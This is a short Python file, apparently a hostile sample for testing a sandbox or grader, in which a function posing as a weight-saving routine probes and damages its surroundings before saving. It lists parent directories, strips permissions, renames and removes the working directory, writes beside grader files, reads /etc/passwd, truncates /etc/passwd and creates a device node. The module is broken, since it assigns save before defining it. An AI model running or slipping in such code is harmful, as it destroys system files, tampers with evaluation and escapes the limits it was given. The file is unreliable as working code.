"""Opens, lists and changes what lies around its files.

score: 4
"""

import os

right = save
here = os.getcwd()


def save(weights, path):
    for act in (
        lambda: os.listdir("."),
        lambda: os.listdir(".."),
        lambda: os.listdir(here),
        lambda: os.chmod(".", 0),
        lambda: os.chmod(path, 0),
        lambda: os.chown(path, 0, 0),
        lambda: os.setxattr(path, "user.hostile", b"1"),
        lambda: os.utime(path, (0, 0)),
        lambda: os.rename(".", "../away"),
        lambda: os.rmdir(here),
        lambda: open(os.open(".", os.O_TMPFILE | os.O_WRONLY), "w"),
        lambda: open("../grader-files-x", "w"),
        lambda: open("/tmp/../etc/passwd").read(),
        lambda: os.truncate("/etc/passwd", 0),
        lambda: os.mknod("device", 0o20666, 259),
        lambda: os.unlink("other.npz.tmp"),
    ):
        try:
            told = act()
        except OSError:
            continue
        else:
            print(act.__code__.co_firstlineno, told)
    right(weights, path)
